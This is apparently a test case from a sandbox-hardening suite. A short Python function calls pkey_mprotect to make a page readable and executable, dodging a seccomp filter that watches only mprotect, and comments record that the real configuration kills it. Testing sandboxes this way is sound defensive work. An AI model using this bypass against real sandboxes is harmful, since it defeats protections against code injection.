# title: make memory code through pkey_mprotect, which a filter of mprotect does not see
# reference: https://man7.org/linux/man-pages/man2/pkey_mprotect.2.html
# real: killed: seccomp
# weakened: seccomp, mdwe
# proof: value: 0

import ctypes
import mmap


def attack(worker):
    page = mmap.mmap(-1, mmap.PAGESIZE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return worker.syscall("pkey_mprotect", address, mmap.PAGESIZE, 5, -1)
